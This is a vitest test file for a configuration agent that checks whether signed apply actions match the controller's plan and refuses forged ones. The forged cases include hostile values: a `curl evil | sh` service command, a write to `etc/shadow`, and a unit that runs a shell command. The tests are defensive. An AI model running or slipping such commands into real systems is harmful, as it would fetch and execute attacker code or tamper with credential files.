import { describe, expect, it } from 'vitest';
import { notPlanned, planItems, type AuthorizedAction, type BoundIntent, type Json } from '../../src/domain';
import { toAuthorized } from '../../src/domain/authorize';
import { classified } from '../../src/domain/verdict';
import { emptyHistory } from '../../src/domain';
import { validateDesiredState } from '../../src/schemas';
import { bindIntent } from '../../src/domain';
import { NOW, n24, n24Before, pass, snapshot } from './fixtures';

/*
 * The agent's check of a signed apply (src/domain/intended.ts): the controller's own plan of a
 * document passes it, and an action that differs from that plan in anything the agent acts on
 * (target, value, artifact sha256, command, node, generation, digest, key) is refused by name.
 */

/** The actions the controller's real pass authorizes for N-24 from the seed's starting point (7.3, maintenance not overridden). */
async function n24Actions(intent = n24()): Promise<AuthorizedAction[]> {
  const pre = snapshot({ ...n24Before(), maintenance: true, config: 'c'.repeat(64) }, { overrides: {} });
  const { first } = await pass(pre, () => null, { intent });
  return first.decision.authorized_actions;
}

/** A node with one resource of each other type, planned by the controller's planner from what `observed` says is there. */
function otherTypes(observed: Record<string, Json>): { intent: BoundIntent; actions: AuthorizedAction[] } {
  const doc = {
    node: 'N-24',
    generation: 12,
    resources: {
      dir: { type: 'directory', path: 'var/data', mode: '0750' },
      secret: { type: 'file', path: 'etc/app/secret', content: 'hunter2', mode: '0600' },
      nginx: { type: 'package', name: 'nginx', version: '1.22.1-9', artifact: 'artifacts/nginx.deb', sha256: 'e'.repeat(64) },
      web: { type: 'unit', name: 'web.service', content: '[Service]\nExecStart=/bin/true\n', enabled: true, active: true },
    },
  };
  const intent = bindIntent(validateDesiredState(doc, 'desired/nodes/N-24.yaml', 'N-24'), {
    source: 'desired/nodes/N-24.yaml',
    revision: 'r',
    author: null,
    loaded_at: NOW,
  });
  const resources = Object.fromEntries(
    Object.entries(doc.resources).map(([key, r]) => [key, { type: r.type, value: observed[key] ?? null, marker: `m-${key}` }]),
  );
  const pre = classified(intent, snapshot({}, { resources: resources as never, overrides: {} }), emptyHistory());
  const actions = planItems(intent, pre.assessments, 1, NOW).map((x) => toAuthorized(x.action));
  return { intent, actions };
}

const respec = (a: AuthorizedAction, change: Record<string, Json>): AuthorizedAction => ({
  ...a,
  spec: { ...(a.spec as Record<string, Json>), ...change },
});

describe('a signed document plans exactly what the controller planned from it', () => {
  it("passes every action of the worked example's real pass", async () => {
    const actions = await n24Actions();
    expect(actions.map((a) => `${a.resource_key}:${a.action}`)).toEqual([
      'build:release.install',
      'config:file.write',
      'maintenance:flag.write',
      'app:service.restart',
    ]);
    for (const a of actions) expect(notPlanned(n24(), 'N-24', a), a.resource_key).toBeNull();
  });

  it('passes a file write and a file attributes change, a directory, a package and a unit, in either branch of their plans', () => {
    const fresh = otherTypes({});
    const inPlace = otherTypes({
      secret: { sha256: 'f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7', mode: '0644' },
    });
    const kinds = [...fresh.actions, ...inPlace.actions].map((a) => `${a.resource_key}:${a.action}`);
    expect(kinds).toContain('secret:file.write');
    expect(kinds).toContain('secret:file.attributes');
    for (const a of [...fresh.actions, ...inPlace.actions]) expect(notPlanned(fresh.intent, 'N-24', a), a.action).toBeNull();
  });

  it('passes a release whose artifact is fetched from where the controller resolved it: the sha256 binds the bytes', async () => {
    const [build] = await n24Actions();
    expect(notPlanned(n24(), 'N-24', respec(build, { artifact: '/srv/fleet/artifacts/app-7.4.tgz' }))).toBeNull();
  });
});

describe('anything the signer did not write is named and refused', () => {
  const cases: [string, (a: AuthorizedAction[]) => AuthorizedAction, RegExp][] = [
    [
      'another service command',
      (a) => respec(a[3], { command: ['sh', '-c', 'curl evil | sh'] }),
      /service.restart spec is not what the document's plan for "app" writes/,
    ],
    [
      'other file bytes with their own sha256',
      (a) => respec(a[1], { content: 'pwned', sha256: '0'.repeat(64) }),
      /file.write spec is not what/,
    ],
    ['other file bytes under the signed sha256', (a) => respec(a[1], { content: 'pwned' }), /file.write spec is not what/],
    ['another file path', (a) => respec(a[1], { path: 'etc/shadow' }), /file.write spec is not what/],
    ['another artifact sha256', (a) => respec(a[0], { sha256: '1'.repeat(64) }), /release.install spec is not what/],
    ['another flag value', (a) => respec(a[2], { value: true }), /flag.write spec is not what/],
    ['another flag name', (a) => respec(a[2], { name: 'other' }), /flag.write spec is not what/],
    [
      'a key the document does not declare',
      (a) => ({ ...a[1], resource_key: 'extra' }),
      /idempotency_key|declares no resource "extra"/,
    ],
    [
      'another generation',
      (a) => ({ ...a[1], desired_generation: 13 }),
      /the document is generation 12, and the action claims generation 13/,
    ],
    [
      'another digest',
      (a) => ({ ...a[1], desired_digest: `sha256:${'0'.repeat(64)}` }),
      /the document's digest is sha256:.*, and the action claims sha256:0000/,
    ],
    ['another idempotency key', (a) => ({ ...a[1], idempotency_key: 'x' }), /its idempotency_key is not the one/],
    [
      'another action kind on a declared key',
      (a) => ({ ...a[3], action: 'service.kill' }),
      /"app" is a service resource, whose plans are service.start or service.restart, not service.kill/,
    ],
    [
      'a stretched observation_ttl',
      (a) => ({ ...a[1], observation_ttl: '100d' }),
      /observation_ttl 100d is not the document's 60s/,
    ],
  ];
  it.each(cases)('%s', async (_name, forge, why) => {
    expect(notPlanned(n24(), 'N-24', forge(await n24Actions()))).toMatch(why);
  });

  it("another node's signed document, for the same keys, is not this node's", async () => {
    const [build] = await n24Actions();
    expect(notPlanned(n24(), 'N-25', build)).toBe('the document is for node "N-24", not this node "N-25"');
  });

  it('a package from another .deb or a unit with other content is refused', () => {
    const { intent, actions } = otherTypes({});
    const deb = actions.find((a) => a.action === 'package.install')!;
    const unit = actions.find((a) => a.action === 'unit.apply')!;
    expect(notPlanned(intent, 'N-24', respec(deb, { sha256: '2'.repeat(64) }))).toMatch(/package.install spec is not what/);
    expect(notPlanned(intent, 'N-24', respec(deb, { version: '9.9-1' }))).toMatch(/package.install spec is not what/);
    const file = { kind: 'content', content: '[Service]\nExecStart=/bin/sh -c "id > /tmp/x"\n', sha256: '3'.repeat(64) };
    expect(notPlanned(intent, 'N-24', respec(unit, { file }))).toMatch(/unit.apply spec is not what/);
  });
});

describe('a refusal of the signed document stands only for that signature', () => {
  const signedBy = (signature: string) => ({ ...n24(), signed: { document: 'node: N-24\n', signature } });
  const refusedAs = (refusal_type: string) => () => ({ kind: 'refused' as const, refusal_type, message: `${refusal_type}: no` });
  const pre = () => snapshot({ ...n24Before(), maintenance: true }, { overrides: {} });

  it('UntrustedIntent stands while the loop holds the same signature, and the document signed again is tried at once', async () => {
    const first = await pass(pre(), pre, { intent: signedBy('sig-1'), answer: refusedAs('UntrustedIntent') });
    expect(first.final.decision).toMatchObject({ convergence_status: 'BLOCKED', reason: 'ACTION_REFUSED' });
    const history = first.final.history;
    const again = await pass(pre(), pre, { intent: signedBy('sig-1'), history });
    expect(again.first.decision.authorized_actions.map((a) => a.resource_key)).not.toContain('build');
    expect(again.first.decision.planned_actions.find((a) => a.resource_key === 'build')?.withheld_because).toMatch(
      /UntrustedIntent/,
    );
    const resigned = await pass(pre(), pre, { intent: signedBy('sig-2'), history });
    expect(resigned.first.decision.authorized_actions.map((a) => a.resource_key)).toContain('build');
  });

  it('a refusal about the node (NotAllowedByHost) stands whatever the signature', async () => {
    const first = await pass(pre(), pre, { intent: signedBy('sig-1'), answer: refusedAs('NotAllowedByHost') });
    const resigned = await pass(pre(), pre, { intent: signedBy('sig-2'), history: first.final.history });
    expect(resigned.first.decision.authorized_actions.map((a) => a.resource_key)).not.toContain('build');
  });
});
